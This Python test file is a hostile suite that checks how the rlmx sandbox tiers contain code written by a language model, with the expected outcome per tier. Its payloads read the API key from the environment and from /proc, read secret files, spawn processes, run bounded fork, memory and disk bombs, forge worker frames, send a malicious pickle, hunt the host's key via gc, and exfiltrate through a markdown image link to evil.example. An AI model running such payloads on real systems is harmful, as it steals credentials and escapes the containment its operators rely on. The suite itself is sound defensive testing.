"""The hostile suite: SANDBOX.md §7, every case that applies to a Python worker (1-23, 25, 26), run against the
subprocess tier and the isolated tier (bwrap here, and its Landlock fallback), with the expected outcome per
tier written next to each case in EXPECTED. Each test measures an outcome and asserts it is the expected one.

Outcomes: "blocked" (✓), "exposed" (✗: the attack reached the host or the real system), "private" (◐: it
"worked" only inside the sandbox's own view), "soft" (S: stopped by the soft timeout, state kept), "hard"
(K: needed a hard kill; the worker restarted), "residual" (no tier can stop it; how rlmx handles it is checked).
Case 24 (the Pyodide JS bridge) does not apply to a Python worker. Loops are bounded: the fork "bomb" makes 200
forks whose children sleep 3 s; nothing here is unbounded.

Cases about the engine (frame bomb, frame forge, cost amplification, escape via the answer) run through the
real RLM engine with a ScriptedLM; the others run directly against the sandbox.
"""

from __future__ import annotations

import json
import re
import secrets
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from hostile.harness import SUITE_OPTIONS, expected_outcome, launcher, open_sandbox, run
from rlmx import RLM, Budget
from rlmx.events import Event
from rlmx.lm import Message, ScriptedLM
from rlmx.result import Result

B, X, P, S, K, R = "blocked", "exposed", "private", "soft", "hard", "residual"

EXPECTED: dict[str, dict[str, str]] = {
    # case               subprocess (as the host's user) | on a root host (separate uid) | isolated | Landlock
    "01 env_secret": {"subprocess": B, "isolated": B, "inprocess": X},
    "02 host_proc_environ": {
        "subprocess": X,
        "subprocess-uid": B,
        "subprocess-pidns": B,
        "isolated": B,
    },  # another host process
    "03 read_secret": {"subprocess": X, "subprocess-uid": B, "isolated": B},
    # bwrap: its own /tmp; a separate uid writes only to world-writable dirs, and its files there go at close
    "04 write_persist": {"subprocess": X, "subprocess-uid": P, "isolated": P, "isolated-landlock": B},
    "05 net_loopback": {"subprocess": X, "isolated": B},
    "06 net_external": {"subprocess": X, "isolated": B},  # subprocess: fails only for lack of a route here
    "07 udp_exfil": {"subprocess": X, "isolated": B},
    "08 spawn": {"subprocess": X, "isolated": B},
    "09 signal_host": {"subprocess": B, "isolated": B},  # every tier's seccomp filter names the host's pid
    # root as itself ignores RLIMIT_NPROC; a separate uid has its own (128); isolated: seccomp, 0 forks
    "10 fork_bomb_bounded": {"subprocess": X, "subprocess-uid": B, "isolated": B},
    "11 thread_bomb": {"subprocess": B, "isolated": B},  # RLIMIT_AS; isolated also RLIMIT_NPROC (own uid)
    "12 memory_bomb": {"subprocess": B, "isolated": B},
    "13 disk_bomb": {"subprocess": B, "isolated": B},  # RLIMIT_FSIZE (this case sets 64 MiB; default 1 GiB)
    "14 loop_py": {"subprocess": S, "isolated": S},
    "15 loop_c": {"subprocess": K, "isolated": K},
    "16 redos": {"subprocess": S, "isolated": S},
    "17 alarm_override": {"subprocess": K, "isolated": K},
    "18 output_flood": {"subprocess": B, "isolated": B},
    "19 frame_bomb": {"subprocess": B, "isolated": B},
    "20 frame_forge": {"subprocess": B, "isolated": B},
    "21 llm_amplify": {"subprocess": B, "isolated": B},
    "22 pickle_channel": {"subprocess": B, "isolated": B},
    "23 introspection": {"subprocess": B, "isolated": B, "inprocess": X},
    # the run dir's ctx folder (the files are unlinked once loaded; a restart writes them again from the host)
    "25 context_tamper": {"subprocess": X, "subprocess-uid": B, "isolated": B},
    "26 escape_via_answer": {"subprocess": R, "isolated": R},  # verbatim answer; only what the sandbox saw
}


def expected(case: str, tier: str) -> str:
    """The expected outcome of `case` on `tier`, on this host."""
    return expected_outcome(EXPECTED[case], tier)


def host_rss() -> int:
    for line in Path("/proc/self/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1]) * 1024
    return 0


def run_engine(tier: str, replies: list[str], **kwargs: Any) -> tuple[Result, list[Event], ScriptedLM]:
    """One RLM completion over the given tier, with root replies in order and sub-calls answered 'ok'."""
    events: list[Event] = []
    root = iter(replies)

    def reply(messages: list[Message]) -> str:
        return "ok" if len(messages) == 1 else next(root)

    lm = ScriptedLM(reply)
    name, extra = launcher(tier)
    options = {**SUITE_OPTIONS, **extra, **kwargs.pop("sandbox_options", {})}
    rlm = RLM(lm, sandbox=name, sandbox_options=options, on_event=events.append, **kwargs)
    return rlm.completion("hostile", context="the context"), events, lm


def cells(events: list[Event]) -> list[dict[str, Any]]:
    return [e.data for e in events if e.type == "cell"]


def repl(code: str) -> str:
    return f"```repl\n{code}\n```"


def blocked_if(failed: bool) -> str:
    return B if failed else X


# --- secrets ----------------------------------------------------------------------------------------------------
async def test_01_env_secret(any_tier: str, host_key: str) -> None:
    async with open_sandbox(any_tier) as box:
        result = await run(box, "import os\nprint(os.environ.get('RLM_FAKE_API_KEY'))")
    assert blocked_if(host_key not in result.stdout) == expected("01 env_secret", any_tier)


async def test_02_host_proc_environ(tier: str, key_holder: int, host_key: str) -> None:
    async with open_sandbox(tier) as box:
        result = await run(box, f"print(open('/proc/{key_holder}/environ', 'rb').read())")
    assert blocked_if(host_key not in result.stdout) == expected("02 host_proc_environ", tier)


async def test_03_read_secret(tier: str, secret_file: Path) -> None:
    async with open_sandbox(tier) as box:
        result = await run(box, f"print(open({str(secret_file)!r}).read())")
    outcome = blocked_if(secret_file.read_text() not in result.stdout)
    assert outcome == expected("03 read_secret", tier), result.error
    if outcome == B:
        assert re.search(r"(FileNotFound|Permission)Error", result.error or ""), result.error


async def test_04_write_persist(tier: str, tmp_path: Path) -> None:
    """Persistence: a marker in a host folder (like ~/.bashrc or site-packages), and one in the shared /tmp."""
    marks = [tmp_path / "mark", Path(f"/tmp/rlmx-hostile-{secrets.token_hex(4)}")]
    code = "written = 0\nfor path in {paths!r}:\n    try:\n        open(path, 'w').write('x')\n        written += 1\n"
    code += "    except OSError:\n        pass\nprint(written)"
    async with open_sandbox(tier) as box:
        result = await run(box, code.format(paths=[str(m) for m in marks]))
    on_host = [m for m in marks if m.exists()]
    for mark in on_host:
        mark.unlink()
    outcome = X if on_host else P if result.stdout.strip() != "0" else B
    assert outcome == expected("04 write_persist", tier), result


# --- network ----------------------------------------------------------------------------------------------------
async def test_05_net_loopback(tier: str, tcp_listener: tuple[int, Callable[[], bool]]) -> None:
    port, heard = tcp_listener
    async with open_sandbox(tier) as box:
        result = await run(box, f"import socket\nsocket.create_connection(('127.0.0.1', {port}), timeout=2)")
    connected = heard()
    assert blocked_if(not connected and result.status == "error") == expected("05 net_loopback", tier)


async def test_06_net_external(tier: str) -> None:
    code = "import socket\ntry:\n    socket.create_connection(('192.0.2.1', 80), timeout=0.5)\n    print('connected')\n"
    code += "except OSError as exc:\n    print(type(exc).__name__)"  # TEST-NET-1: unroutable, never answers
    async with open_sandbox(tier) as box:
        result = await run(box, code)
    assert blocked_if(result.stdout == "PermissionError\n") == expected("06 net_external", tier), result.stdout


async def test_07_udp_exfil(tier: str, udp_listener: tuple[int, Callable[[], bool]]) -> None:
    port, heard = udp_listener
    code = f"import socket\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'exfil', ('127.0.0.1', {port}))"
    async with open_sandbox(tier) as box:
        result = await run(box, code)
    outcome = blocked_if(not heard())
    assert outcome == expected("07 udp_exfil", tier)
    if outcome == B:
        assert "PermissionError" in (result.error or "")


# --- processes --------------------------------------------------------------------------------------------------
async def test_08_spawn(tier: str) -> None:
    spawn = "import os, subprocess\ntry:\n    print(subprocess.run(['/bin/sh', '-c', 'echo spawned'],"
    spawn += " capture_output=True, text=True).stdout)\nexcept OSError as exc:\n    print(type(exc).__name__)\n"
    spawn += "print(os.system('true'))"
    execv = "import os\nos.execv('/bin/sh', ['/bin/sh', '-c', 'true'])"  # success would replace the worker
    async with open_sandbox(tier) as box:
        result = await run(box, spawn)
        replaced = await run(box, execv)
    spawned = "spawned" in result.stdout or replaced.status == "restarted"
    assert blocked_if(not spawned) == expected("08 spawn", tier), (result, replaced)
    if not spawned:  # os.system's fork fails too, so it reports exit status 127
        assert result.stdout == "PermissionError\n32512\n" and "PermissionError" in (replaced.error or "")


async def test_09_signal_host(tier: str) -> None:
    import os

    async with open_sandbox(tier) as box:
        result = await run(box, f"import os\nos.kill({os.getpid()}, 0)\nprint('reached the host')")
    assert blocked_if("reached the host" not in result.stdout) == expected("09 signal_host", tier)


FORKS = """
import os, time
forks, refused = 0, None
for _ in range(200):
    try:
        pid = os.fork()
    except OSError as exc:
        refused = type(exc).__name__
        break
    if pid == 0:
        try:
            time.sleep(3)
        finally:
            os._exit(0)
    forks += 1
print(forks, refused)
"""


async def test_10_fork_bomb_bounded(tier: str) -> None:
    """200 forks (never an unbounded bomb); the children die with the worker's process group at close."""
    async with open_sandbox(tier) as box:
        result = await run(box, FORKS, timeout=20)
    forks = int(result.stdout.split()[0])
    assert blocked_if(forks < 200) == expected("10 fork_bomb_bounded", tier), result.stdout
    if forks < 200:
        assert result.stdout.split()[1] in ("PermissionError", "BlockingIOError")


THREADS = """
import threading, time
started, refused = 0, None
for _ in range(500):
    try:
        threading.Thread(target=time.sleep, args=(2,), daemon=True).start()
    except RuntimeError as exc:
        refused = str(exc)
        break
    started += 1
print(started, refused)
"""


async def test_11_thread_bomb(tier: str) -> None:
    async with open_sandbox(tier) as box:
        result = await run(box, THREADS, timeout=20)
        after = await run(box, "print(len(context))")
    started = int(result.stdout.split()[0])
    assert blocked_if(started < 500) == expected("11 thread_bomb", tier), result.stdout
    assert after.stdout == "11\n"


async def test_12_memory_bomb_leaves_the_host_unaffected(tier: str) -> None:
    before = host_rss()
    async with open_sandbox(tier) as box:
        result = await run(box, "hog = bytearray(6 << 30)")
        after = await run(box, "print(len(context))")
    assert blocked_if("MemoryError" in (result.error or "")) == expected("12 memory_bomb", tier)
    assert after.stdout == "11\n" and after.status == "ok"
    assert host_rss() - before < 64 << 20


async def test_13_disk_bomb(tier: str) -> None:
    code = "import os\nchunk = b'x' * (1 << 20)\nwritten = 0\ntry:\n    with open('big.bin', 'wb') as f:\n"
    code += "        for _ in range(200):\n            f.write(chunk)\n            written += 1\n"
    code += "except OSError as exc:\n    print(written, exc.errno)"
    async with open_sandbox(tier, file_size_limit_bytes=64 << 20) as box:
        result = await run(box, code, timeout=20)
    assert blocked_if(result.stdout.split()[-1:] == ["27"]) == expected("13 disk_bomb", tier), result  # EFBIG


# --- time -------------------------------------------------------------------------------------------------------
async def test_14_loop_py(tier: str) -> None:
    async with open_sandbox(tier) as box:
        await run(box, "n = 41")
        result = await run(box, "while True:\n    pass", timeout=0.5)
        after = await run(box, "print(n + 1)")
    outcome = S if result.status == "timeout" and after.stdout == "42\n" else K if result.status == "restarted" else X
    assert outcome == expected("14 loop_py", tier)


async def test_15_loop_c(tier: str) -> None:
    async with open_sandbox(tier) as box:
        await run(box, "n = 41")
        result = await run(box, "sum(range(10**12))", timeout=0.5)
        after = await run(box, "print(len(context), 'n' in globals())")
    outcome = K if result.status == "restarted" and after.stdout == "11 False\n" else X
    assert outcome == expected("15 loop_c", tier)
    assert "hard time limit" in (result.error or "") and "variables you defined are lost" in (result.error or "")


async def test_16_redos(tier: str) -> None:
    async with open_sandbox(tier) as box:
        result = await run(box, "import re\nre.match(r'(a+)+$', 'a' * 40 + 'b')", timeout=0.5)
    assert (S if result.status == "timeout" else K if result.status == "restarted" else X) == expected("16 redos", tier)


@pytest.mark.slow
@pytest.mark.parametrize(
    "override",
    [
        "signal.signal(signal.SIGALRM, signal.SIG_IGN)",
        "signal.setitimer(signal.ITIMER_REAL, 0)",
        "signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGALRM})",
    ],
)
async def test_17_alarm_override(tier: str, override: str) -> None:
    async with open_sandbox(tier) as box:
        result = await run(box, f"import signal\n{override}\nwhile True:\n    pass", timeout=0.5)
        after = await run(box, "print(len(context))")
    # The soft limit may still stop the cell, its variables kept: better than the hard kill promised, and as
    # contained. A mask on the main thread alone leaves SIGALRM to the worker's other thread (the fd 1 drain); a
    # cell's own SIGALRM handler and ITIMER_REAL are the cell's own timer, apart from the limit's (e4aeffe).
    stopped = result.status in ("restarted", "timeout")
    outcome = K if stopped and after.stdout == "11\n" else X
    assert outcome == expected("17 alarm_override", tier)


async def test_18_output_flood(tier: str) -> None:
    before = host_rss()
    async with open_sandbox(tier) as box:
        result = await run(box, "print('x' * 2 * 10**8)", timeout=20)
    truncated = len(result.stdout) < 20_200 and result.stdout_cut > 199_000_000
    assert blocked_if(truncated) == expected("18 output_flood", tier)
    assert host_rss() - before < 64 << 20


# --- the frame channel (through the engine) ----------------------------------------------------------------------
async def test_19_frame_bomb(tier: str) -> None:
    bomb = (
        "import os, sys, struct, time\nos.write(int(sys.argv[1]), struct.pack('>I', 0xFFFFFFF0) + b'{')\ntime.sleep(5)"
    )
    before = host_rss()
    result, events, _ = run_engine(tier, [repl(bomb), repl("FINAL('done')")])
    statuses = [c["status"] for c in cells(events)]
    outcome = blocked_if(statuses == ["restarted", "ok"] and result.answer == "done")
    assert outcome == expected("19 frame_bomb", tier), statuses
    assert "frame" in cells(events)[0]["output"] and host_rss() - before < 64 << 20


FORGE = """
import json, os, struct, sys, time
def forge(dig):
    token = 1  # a guess: the cell number
    if dig:  # the real token, dug out of the worker's own frames
        frame = sys._getframe()
        while frame is not None and not (isinstance(frame.f_locals.get('message'), dict)
                                          and frame.f_locals['message'].get('t') == 'exec'):
            frame = frame.f_back
        token = frame.f_locals['message']['id']
    fake = {'t': 'result', 'id': token, 'status': 'ok', 'stdout': '', 'final': {'kind': 'final', 'value': 'FORGED'},
            'answer': {'content': 'FORGED', 'ready': True, 'valid': True}}
    body = json.dumps(fake).encode()
    os.write(int(sys.argv[1]), struct.pack('>I', len(body)) + body)
    time.sleep(0.3)  # ...and keep running: the real result follows
forge(%s)
"""


async def test_20_frame_forge(tier: str) -> None:
    replies = [repl(FORGE % "False"), repl(FORGE % "True"), repl("FINAL('real')")]
    result, events, _ = run_engine(tier, replies)
    statuses = [c["status"] for c in cells(events)]
    outcome = blocked_if(result.answer == "real" and statuses == ["restarted", "restarted", "ok"])
    assert outcome == expected("20 frame_forge", tier), (result.answer, statuses)
    assert "FORGED" not in json.dumps([e.data for e in events if e.type in ("node_end", "run_end")])


AMPLIFY = """
answered, refused, last = 0, 0, ''
for i in range(5000):
    try:
        llm_query('x' * 100000)
        answered += 1
    except RuntimeError as exc:
        refused += 1
        last = str(exc)
        if refused >= 100:
            break
print(answered, refused, last)
"""


@pytest.mark.parametrize("limit", ["budget", "sandbox cap"])
async def test_21_llm_amplify(tier: str, limit: str) -> None:
    """5,000 x llm_query(100 kB) stops at the engine's sub-call budget, or at the sandbox's per-cell cap."""
    kwargs: dict[str, Any] = (
        {"budget": Budget(max_subcalls=30)} if limit == "budget" else {"sandbox_options": {"max_calls_per_cell": 20}}
    )
    result, events, lm = run_engine(tier, [repl(AMPLIFY), repl("FINAL('stopped')")], **kwargs)
    sub_calls = sum(1 for call in lm.calls if len(call) == 1)
    answered, refused = (int(n) for n in cells(events)[0]["output"].split()[:2])
    outcome = blocked_if(sub_calls == answered == (30 if limit == "budget" else 20) and refused == 100)
    assert outcome == expected("21 llm_amplify", tier), cells(events)[0]["output"]
    assert result.answer == "stopped"
    assert ("budget" if limit == "budget" else "per-cell cap") in cells(events)[0]["output"]


async def test_22_pickle_channel(tier: str, tmp_path: Path) -> None:
    """The host never unpickles: no pickle anywhere in rlmx, and a pickle frame from the worker ends it."""
    source = Path(__file__).parents[2] / "src" / "rlmx"
    offenders = [
        str(path)
        for path in source.rglob("*.py")
        if re.search(r"^\s*(import|from)\s+(pickle|cPickle|dill|cloudpickle|marshal|shelve)\b", path.read_text(), re.M)
    ]
    mark = tmp_path / "unpickled"
    payload = (
        "import os, pickle, struct, sys, time\nclass Evil:\n    def __reduce__(self):\n"
        f"        return (open, ({str(mark)!r}, 'w'))\n"
        "body = pickle.dumps(Evil())\nos.write(int(sys.argv[1]), struct.pack('>I', len(body)) + body)\ntime.sleep(5)"
    )
    async with open_sandbox(tier) as box:
        result = await run(box, payload, timeout=10)
    outcome = blocked_if(not offenders and not mark.exists() and result.status == "restarted")
    assert outcome == expected("22 pickle_channel", tier), (offenders, result.error)


class FakeClient:
    """A host-side LM client holding a key, as the real host would."""

    def __init__(self, key: str) -> None:
        self.api_key = key


async def test_23_introspection(any_tier: str, host_key: str) -> None:
    client = FakeClient(host_key)
    code = (
        "import gc, json\nhits = 0\nfor o in gc.get_objects():\n    try:\n"
        f"        hits += vars(o).get('api_key') == {host_key!r}\n"
        "    except Exception:\n        pass\n"
        "json.dumps = lambda *a, **k: 'PWNED'\n"
        "print(hits, type(llm_query.__self__).__name__)"
    )
    original = json.dumps
    try:
        async with open_sandbox(any_tier) as box:
            result = await run(box, code, timeout=60)  # a walk of every object of a busy test process
        host_patched = json.dumps({"a": 1}) == "PWNED"
    finally:
        json.dumps = original  # the in-process tier patches the host's json module: undo it
    assert result.stdout.split(), result
    found = int(result.stdout.split()[0]) > 0
    assert blocked_if(not found and not host_patched) == expected("23 introspection", any_tier), result.stdout
    assert client.api_key == host_key


async def test_25_context_tamper(tier: str) -> None:
    """Reassigning `context` is the model's business (kept until a restart); REPL functions are restored after
    every cell; the stored context must stay as it was, so a restart brings the original back."""
    tamper = "for path in ('/ctx/context.txt', '../ctx/context.txt'):\n    try:\n"
    tamper += (
        "        open(path, 'w').write('tampered')\n        print('wrote', path)\n    except OSError:\n        pass"
    )
    async with open_sandbox(tier) as box:
        await run(box, "context = 'x'\nFINAL = None")
        renamed = await run(box, "print(context, FINAL is None)")
        wrote = await run(box, tamper)
        await run(box, "import os\nos._exit(1)")
        restored = await run(box, "print(context)")
    assert renamed.stdout == "x False\n" and restored.stdout == "the context\n"
    assert blocked_if("wrote" not in wrote.stdout) == expected("25 context_tamper", tier)


async def test_26_escape_via_the_answer(tier: str, host_key: str) -> None:
    leak = "import os\nFINAL('![img](https://evil.example/?k=' + str(os.environ.get('RLM_FAKE_API_KEY')) + ')')"
    result, _, _ = run_engine(tier, [repl(leak)])
    # The answer comes back verbatim (rlmx never renders it; neutralising markdown is the caller's output layer),
    # and it can only carry what the sandbox could see: the key is not among it.
    verbatim = result.answer == "![img](https://evil.example/?k=None)"
    assert (R if verbatim and host_key not in result.answer else X) == expected("26 escape_via_answer", tier)
